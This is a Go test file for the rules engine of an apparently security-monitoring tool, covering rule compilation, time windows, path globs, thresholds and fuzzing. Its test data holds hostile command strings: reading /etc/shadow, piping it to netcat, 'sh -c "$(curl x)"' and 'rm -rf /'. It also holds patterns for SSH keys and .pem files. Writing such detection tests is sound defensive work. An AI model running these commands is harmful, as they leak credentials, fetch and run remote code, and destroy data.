package rules

import (
	"errors"
	"fmt"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/vigilhq/vigil"
)

func TestCompileErrors(t *testing.T) {
	t.Parallel()
	tests := []struct{ expr, want string }{
		{"event.user ==", "line 1, column 14"},
		{"event.type == \"login\" &&\n  event.usr == \"x\"", "line 2, column 8"},
		{"event.user", "must be true or false"},
		{"1 + 2", "must be true or false"},
		{`in_hours(event.time, "8am", "18:00", "UTC")`, "must look like 08:00"},
		{`in_hours(event.time, "08:00", "18:00", "Mars/Base")`, "unknown time zone"},
		{"", "must not be empty"},
		{`[1,2,3,4,5,6,7,8,9,10].all(x, event.argv.all(a, event.argv.all(b, event.argv.all(c, a + b + c != ""))))`, "too expensive"},
	}
	for _, tc := range tests {
		_, err := Compile(tc.expr)
		var ve *vigil.Error
		if !errors.As(err, &ve) || ve.Code != vigil.EInvalid || ve.Fields[0].Field != "expression" || !strings.Contains(err.Error(), tc.want) {
			t.Errorf("Compile(%q) = %v, want invalid expression with %q", tc.expr, err, tc.want)
		}
	}
}

func TestCostLimit(t *testing.T) {
	t.Parallel()
	p, err := Compile(`event.argv.all(a, event.argv.all(b, a + b != "x"))`)
	if err != nil {
		t.Fatal(err)
	}
	argv := make([]string, 600)
	for i := range argv {
		argv[i] = fmt.Sprint("arg", i)
	}
	if _, err := p.Match(vigil.RuleEvent{Type: "command", Argv: argv}); err == nil || !strings.Contains(err.Error(), "cost") {
		t.Errorf("err = %v, want cost limit", err)
	}
	if ok, err := p.Match(vigil.RuleEvent{Type: "command", Argv: []string{"a", "b"}}); !ok || err != nil {
		t.Errorf("small argv: %v %v", ok, err)
	}
}

func TestInHours(t *testing.T) {
	t.Parallel()
	at := func(s string) time.Time {
		v, err := time.Parse(time.RFC3339, s)
		if err != nil {
			t.Fatal(err)
		}
		return v
	}
	tests := []struct {
		t                string
		start, end, zone string
		want             bool
		err              bool
	}{
		{"2026-03-04T09:00:00Z", "08:00", "18:00", "UTC", true, false},
		{"2026-03-04T18:00:00Z", "08:00", "18:00", "UTC", false, false},
		{"2026-03-04T07:30:00Z", "08:00", "18:00", "Europe/Berlin", true, false}, // 08:30 in Berlin
		{"2026-03-04T17:30:00Z", "08:00", "18:00", "Europe/Berlin", false, false},
		{"2026-03-04T23:30:00Z", "22:00", "05:00", "UTC", true, false},
		{"2026-03-04T04:59:00Z", "22:00", "05:00", "UTC", true, false},
		{"2026-03-04T05:00:00Z", "22:00", "05:00", "UTC", false, false},
		{"2026-03-04T12:00:00Z", "00:00", "00:00", "UTC", true, false},
		{"2026-03-04T12:00:00Z", "8:00", "18:00", "UTC", false, true},
		{"2026-03-04T12:00:00Z", "08:00", "25:00", "UTC", false, true},
		{"2026-03-04T12:00:00Z", "08:00", "18:00", "Nowhere/City", false, true},
	}
	for _, tc := range tests {
		got, err := InHours(at(tc.t), tc.start, tc.end, tc.zone)
		if got != tc.want || (err != nil) != tc.err {
			t.Errorf("InHours(%s, %s, %s, %s) = %v, %v", tc.t, tc.start, tc.end, tc.zone, got, err)
		}
	}
	// A zone that is not a literal fails at evaluation, not at compile.
	p, err := Compile(`in_hours(event.time, "08:00", "18:00", event.host_labels["tz"])`)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := p.Match(vigil.RuleEvent{HostLabels: map[string]string{"tz": "Bad/Zone"}}); err == nil {
		t.Error("bad zone at evaluation: no error")
	}
}

func TestPathMatches(t *testing.T) {
	t.Parallel()
	tests := []struct {
		path, glob string
		want       bool
	}{
		{"/etc/shadow", "/etc/shadow", true},
		{"/etc//shadow", "/etc/shadow", true},
		{"/etc/../etc/shadow", "/etc/shadow", true},
		{"/etc/sudoers.d/x", "/etc/sudoers.d/*", true},
		{"/etc/sudoers.d/a/b", "/etc/sudoers.d/*", false},
		{"/etc/sudoers.d/a/b", "/etc/sudoers.d/**", true},
		{"/home/a/.ssh/id_rsa", "id_rsa", true},
		{"/home/a/.ssh/id_rsa.pub", "id_rsa", false},
		{"/srv/x.pem", "*.pem", true},
		{"/var/log/auth.log", "/var/log/**", true},
		{"/a/b", "/a/**/b", true},
		{"/a/x/y/b", "/a/**/b", true},
		{"f1", "f[0-9]", true},
		{"fa", "f[!a]", false},
		{"abc", "a?c", true},
	}
	for _, tc := range tests {
		if got := PathMatches(tc.path, tc.glob); got != tc.want {
			t.Errorf("PathMatches(%q, %q) = %v", tc.path, tc.glob, got)
		}
	}
	p, err := Compile(`event.cwd.path_matches("/srv/**") && path_matches(event.cwd, "/srv/*")`)
	if err != nil {
		t.Fatal(err)
	}
	if ok, _ := p.Match(vigil.RuleEvent{CWD: "/srv/app"}); !ok {
		t.Error("member form did not match")
	}
}

func TestCommandHelpers(t *testing.T) {
	t.Parallel()
	tests := []struct{ expr, cmd string }{
		{`cmd_tokens(event.command) == ["cat", "/etc/shadow", "|", "wc"]`, `cat '/etc/shadow'|wc`},
		{`normalize_cmd(event.command) == "sudo cat /etc/shadow"`, `sudo   /usr/bin/cat  "/etc/shadow"`},
		{`event.programs() == ["sudo", "env", "cat"]`, `sudo env A=1 cat x`},
		{`remote_host("bob@1.2.3.4:/x") == "1.2.3.4" && remote_host("https://h.example/x") == "h.example" && remote_host("/tmp/a:b") == ""`, ``},
		{`is_external_host("8.8.8.8") && !is_external_host("10.1.2.3") && !is_external_host("db1") && !is_external_host("a.internal")`, ``},
		{`event.exit_code == -1 && session.id == ""`, `true`},
	}
	for _, tc := range tests {
		p, err := Compile(tc.expr)
		if err != nil {
			t.Fatalf("%s: %v", tc.expr, err)
		}
		if ok, err := p.Match(vigil.RuleEvent{Type: "command", Command: tc.cmd}); !ok || err != nil {
			t.Errorf("%s on %q: %v %v", tc.expr, tc.cmd, ok, err)
		}
	}
}

func TestDryRun(t *testing.T) {
	t.Parallel()
	evs := []vigil.RuleEvent{
		{Type: "command", Command: "ls"},
		{Type: "command", Command: "cat /etc/shadow"},
		{Type: "login", User: "bob", Host: "db1"},
		{Type: "login", User: "bob", Host: "db1"},
	}
	got, err := DryRun(`event.runs(["cat"]) || event.type == "login" && first_seen(event.user + "@" + event.host)`, evs)
	if err != nil {
		t.Fatal(err)
	}
	if len(got) != 2 || got[0].Command != "cat /etc/shadow" || got[1].Type != "login" {
		t.Errorf("DryRun = %+v", got)
	}
	if _, err := DryRun("event.user ==", evs); vigil.ErrorCode(err) != vigil.EInvalid {
		t.Errorf("bad expression: %v", err)
	}
}

func rule(expr string, th *vigil.RuleThreshold, throttle time.Duration) vigil.Rule {
	return vigil.Rule{Name: "r", Expression: expr, Severity: vigil.SeverityLow, Enabled: true, Threshold: th, Throttle: vigil.Duration(throttle)}
}

func TestThreshold(t *testing.T) {
	t.Parallel()
	e, err := NewEngine([]vigil.Rule{rule(`event.type == "login_failed"`,
		&vigil.RuleThreshold{Count: 3, Window: vigil.Duration(time.Minute), GroupBy: []string{"user", "source_ip"}}, 0)})
	if err != nil {
		t.Fatal(err)
	}
	fail := func(user string, sec int) int {
		return len(e.Evaluate(vigil.RuleEvent{Type: "login_failed", User: user, SourceIP: "1.2.3.4", Time: day.Add(time.Duration(sec) * time.Second)}))
	}
	// Three within a minute fire once; the count then starts again.
	if n := fail("a", 0) + fail("a", 10) + fail("b", 15) + fail("a", 20); n != 1 {
		t.Errorf("fired %d times, want 1", n)
	}
	if n := fail("a", 30) + fail("a", 40); n != 0 {
		t.Errorf("fired %d times after reset, want 0", n)
	}
	// Spread over more than the window: never.
	if n := fail("c", 0) + fail("c", 70) + fail("c", 140); n != 0 {
		t.Errorf("outside window fired %d", n)
	}
	m := e.Evaluate(vigil.RuleEvent{Type: "login_failed", User: "b", SourceIP: "1.2.3.4", Time: day.Add(20 * time.Second)})
	m = append(m, e.Evaluate(vigil.RuleEvent{Type: "login_failed", User: "b", SourceIP: "1.2.3.4", Time: day.Add(25 * time.Second)})...)
	if len(m) != 1 || m[0].Group != "user=b,source_ip=1.2.3.4" || m[0].Count != 3 {
		t.Errorf("group b: %+v", m)
	}
}

func TestThrottle(t *testing.T) {
	t.Parallel()
	e, err := NewEngine([]vigil.Rule{rule(`event.runs(["id"])`, nil, 10*time.Minute), {Name: "off", Expression: "true", Enabled: false}})
	if err != nil {
		t.Fatal(err)
	}
	if e.Len() != 1 {
		t.Errorf("Len = %d, disabled rule kept", e.Len())
	}
	var got []bool
	for _, c := range []struct {
		user string
		min  int
	}{{"a", 0}, {"a", 5}, {"b", 6}, {"a", 11}} {
		m := e.Evaluate(vigil.RuleEvent{Type: "command", Command: "id", User: c.user, Host: "h", Time: day.Add(time.Duration(c.min) * time.Minute)})
		if len(m) != 1 {
			t.Fatalf("%d matches", len(m))
		}
		got = append(got, m[0].Suppressed)
	}
	if fmt.Sprint(got) != "[false true false false]" {
		t.Errorf("suppressed = %v", got)
	}
}

func TestEvaluateErrors(t *testing.T) {
	t.Parallel()
	var seen []RuleError
	e, err := NewEngineWithOptions([]vigil.Rule{
		rule(`in_hours(event.time, "08:00", "18:00", event.host_labels["tz"])`, nil, 0),
		rule(`event.user == "bob"`, nil, 0),
	}, Options{OnError: func(re RuleError) { seen = append(seen, re) }})
	if err != nil {
		t.Fatal(err)
	}
	m, errs := e.EvaluateErr(vigil.RuleEvent{Type: "login", User: "bob", HostLabels: map[string]string{"tz": "X/Y"}})
	if len(m) != 1 || len(errs) != 1 || len(seen) != 1 || e.Errors() != 1 {
		t.Errorf("matches %d, errors %d, callback %d, counter %d", len(m), len(errs), len(seen), e.Errors())
	}
	if _, err := NewEngine([]vigil.Rule{rule("event.user", nil, 0)}); vigil.ErrorCode(err) != vigil.EInvalid {
		t.Errorf("bad rule: %v", err)
	}
}

func TestFirstSeen(t *testing.T) {
	t.Parallel()
	var b BuiltinRule
	for _, x := range Builtin() {
		if x.ID == "first-login" {
			b = x
		}
	}
	e, err := NewEngine([]vigil.Rule{b.Rule()})
	if err != nil {
		t.Fatal(err)
	}
	var n []int
	for _, h := range []string{"db1", "db1", "db2"} {
		n = append(n, len(e.Evaluate(vigil.RuleEvent{Type: "login", User: "bob", Host: h, Time: day})))
	}
	if fmt.Sprint(n) != "[1 0 1]" {
		t.Errorf("first logins %v", n)
	}
}

func TestEvaluateConcurrent(t *testing.T) {
	t.Parallel()
	e, err := NewEngine(BuiltinRules())
	if err != nil {
		t.Fatal(err)
	}
	evs := benchEvents()
	var wg sync.WaitGroup
	for g := 0; g < 8; g++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := 0; i < 200; i++ {
				e.Evaluate(evs[(i+g)%len(evs)])
			}
		}()
	}
	wg.Wait()
	if e.Errors() != 0 {
		t.Errorf("%d evaluation errors", e.Errors())
	}
}

func TestGroupEviction(t *testing.T) {
	t.Parallel()
	e, err := NewEngineWithOptions([]vigil.Rule{rule(`event.type == "login_failed"`,
		&vigil.RuleThreshold{Count: 2, Window: vigil.Duration(time.Hour), GroupBy: []string{"user"}}, 0)}, Options{MaxGroups: 32})
	if err != nil {
		t.Fatal(err)
	}
	for i := 0; i < 1000; i++ {
		e.Evaluate(vigil.RuleEvent{Type: "login_failed", User: fmt.Sprint("u", i), Time: day})
	}
	total := 0
	for i := range e.shards {
		total += len(e.shards[i].groups)
	}
	if total > 32 {
		t.Errorf("%d groups kept, max 32", total)
	}
}

func benchEvents() []vigil.RuleEvent {
	cmds := []string{"ls -la", "cd /srv/app", "git status", "vim main.go", "go test ./...", "cat README.md | grep -i todo",
		"docker ps", "kubectl get pods -n prod", "tail -f /var/log/nginx/access.log", "ssh db1", "sudo systemctl restart nginx",
		"grep -rn 'func main' .", "make build", "ps aux | grep java", "curl -s https://api.internal/health", "rm -rf build/",
		"cat /etc/shadow", "python3 manage.py migrate", "echo $PATH", "journalctl -u app --since today"}
	var evs []vigil.RuleEvent
	for i, c := range cmds {
		evs = append(evs, vigil.RuleEvent{Type: "command", Time: day.Add(time.Duration(i) * time.Second), User: "alice", Host: "app1", Command: c, SessionID: "s1"})
	}
	evs = append(evs,
		vigil.RuleEvent{Type: "login", Time: day, User: "alice", Host: "app1", SourceIP: "10.0.0.2"},
		vigil.RuleEvent{Type: "login_failed", Time: day, User: "root", Host: "app1", SourceIP: "203.0.113.9"},
		vigil.RuleEvent{Type: "sudo", Time: day, User: "alice", Host: "app1", Command: "/usr/bin/systemctl status nginx"},
		vigil.RuleEvent{Type: "logout", Time: day, User: "alice", Host: "app1"})
	return evs
}

// BenchmarkEvaluatePack runs the whole built-in pack over a mix of mostly
// benign events; events/s is reported.
func BenchmarkEvaluatePack(b *testing.B) {
	e, err := NewEngine(BuiltinRules())
	if err != nil {
		b.Fatal(err)
	}
	evs := benchEvents()
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		e.Evaluate(evs[i%len(evs)])
	}
	b.ReportMetric(float64(b.N)/b.Elapsed().Seconds(), "events/s")
}

func FuzzCompile(f *testing.F) {
	for _, b := range Builtin() {
		f.Add(b.Expression)
	}
	f.Add(`event.user == "x" && in_hours(event.time, "08:00", "18:00", "UTC")`)
	f.Fuzz(func(t *testing.T, expr string) {
		p, err := Compile(expr)
		if err != nil {
			if vigil.ErrorCode(err) != vigil.EInvalid {
				t.Fatalf("error %v is not invalid", err)
			}
			return
		}
		_, _ = p.Match(vigil.RuleEvent{Type: "command", Command: "sudo cat /etc/shadow | nc x 1", Time: day})
	})
}

func FuzzParseCommand(f *testing.F) {
	for _, c := range []string{`cat "/etc/shadow"`, `sudo -u root sh -c "$(curl x)"`, `a=$(b) c <(d) >> e 2>&1`, `\rm -rf /`} {
		f.Add(c)
	}
	f.Fuzz(func(t *testing.T, s string) {
		cl := parseCommand(s, false)
		if len(cl.invs) > maxInvocations {
			t.Fatalf("%d invocations", len(cl.invs))
		}
		_ = NormalizeCommand(s)
		for _, inv := range cl.invs {
			for _, a := range inv.args {
				_ = PathMatches(a, "/etc/**")
				_ = PathMatches(a, "*[a-")
			}
		}
	})
}
